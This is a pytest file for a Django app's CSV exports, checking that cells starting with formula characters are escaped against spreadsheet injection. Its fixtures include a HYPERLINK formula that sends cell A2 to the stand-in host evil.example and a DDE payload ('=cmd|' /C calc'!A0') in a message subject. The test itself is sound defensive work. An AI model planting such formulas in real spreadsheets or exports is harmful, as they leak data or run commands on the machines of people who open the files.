"""Every CSV export is safe to open in a spreadsheet: no cell — the header row included — starts with
=, +, -, @, a tab or a carriage return (CSV injection); each such value is written with a leading "'".

One test per export path: the cases, messages and consents downloads of the pages, and
`casemsg consents export`. The rule itself is casemsg.core.spreadsheet (tests/core/test_spreadsheet.py)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from django.core.management import call_command
from django.test import Client

from casemsg.cases import services as cases
from casemsg.consent.models import ConsentRecord
from casemsg.core.spreadsheet import FORMULA_START
from casemsg.messaging.models import Message

KE = "254712345678"
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A2,"open")'
HOSTILE_VALUES = ["=1+1", "+2", "-3", "@SUM(1)", "\tx", "\rx"]


def table(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body, newline="")))


def streamed(client: Client, url: str) -> list[list[str]]:
    r = client.get(url)
    assert r.status_code == 200 and r["Content-Type"].startswith("text/csv"), r.status_code
    return table(b"".join(r.streaming_content).decode())


def assert_safe(rows: list[list[str]]) -> None:
    bad = [(i, cell) for i, row in enumerate(rows) for cell in row if cell.startswith(FORMULA_START)]
    assert not bad, f"cells a spreadsheet would evaluate (row, cell): {bad}"


def test_cases_export_neutralises_header_and_values(admin, project):
    props = {HOSTILE_NAME: "=HYPERLINK(1)", **{f"p{i}": v for i, v in enumerate(HOSTILE_VALUES)}}
    cases.create_case(project, cases.CaseChange(case_id="-c1", case_type="mother", name="@Asha", properties=props))
    rows = streamed(admin, f"/projects/{project.slug}/cases.csv")
    assert_safe(rows)
    header, (row,) = rows[0], rows[1:]
    assert "'" + HOSTILE_NAME in header and HOSTILE_NAME not in header
    record = dict(zip(header, row, strict=True))
    assert record["'" + HOSTILE_NAME] == "'=HYPERLINK(1)"
    assert record["case_id"] == "'-c1" and record["name"] == "'@Asha"
    assert [record[f"p{i}"] for i in range(len(HOSTILE_VALUES))] == ["'" + v for v in HOSTILE_VALUES]


def test_messages_export_neutralises_values(admin, project):
    when = datetime(2026, 3, 1, 12, tzinfo=UTC)
    for text in HOSTILE_VALUES:
        Message.objects.create(
            project=project, created_on=when, direction="in", channel="sms", status="received", to=KE, text=text
        )
    Message.objects.create(
        project=project,
        created_on=when,
        channel="email",
        status=Message.FAILED,
        to="x@example.org",
        subject="=cmd|' /C calc'!A0",
        text="hello",
        error_detail="@provider said no",
    )
    rows = streamed(admin, f"/projects/{project.slug}/messages.csv")
    assert_safe(rows)
    records = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    assert sorted(r["text"] for r in records if r["channel"] == "sms") == sorted("'" + v for v in HOSTILE_VALUES)
    (email,) = [r for r in records if r["channel"] == "email"]
    assert email["subject"] == "'=cmd|' /C calc'!A0" and email["error_detail"] == "'@provider said no"


def _hostile_consents(project) -> None:
    case = cases.create_case(
        project, cases.CaseChange(case_id="=c2", case_type="mother", properties={"contact_phone_number": KE})
    )
    now = datetime(2026, 3, 1, 12, tzinfo=UTC)
    for answer in HOSTILE_VALUES:
        ConsentRecord.objects.create(
            phone_number=KE,
            project=project,
            case=case,
            kind="refusal",
            source="survey",
            text_shown="+Reply YES",
            answer=answer,
            created_on=now,
        )


def _check_consents(rows: list[list[str]]) -> None:
    assert_safe(rows)
    records = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    refusals = [r for r in records if r["kind"] == "refusal"]
    assert sorted(r["answer"] for r in refusals) == sorted("'" + v for v in HOSTILE_VALUES)
    assert {r["case_id"] for r in refusals} == {"'=c2"} and {r["text_shown"] for r in refusals} == {"'+Reply YES"}


def test_consents_page_export_neutralises_values(admin, project):
    _hostile_consents(project)
    _check_consents(streamed(admin, f"/projects/{project.slug}/consents.csv"))


def test_consents_command_export_neutralises_values(project, tmp_path):
    _hostile_consents(project)
    out = io.StringIO()
    call_command("consents", "export", "--project", project.slug, stdout=out)
    _check_consents(table(out.getvalue()))
    path = tmp_path / "ledger.csv"  # --output writes a file through the same rule
    call_command("consents", "export", "--project", project.slug, "--output", str(path))
    with path.open(encoding="utf-8", newline="") as fh:  # newline="": a "\r" in a cell stays one
        _check_consents(table(fh.read()))
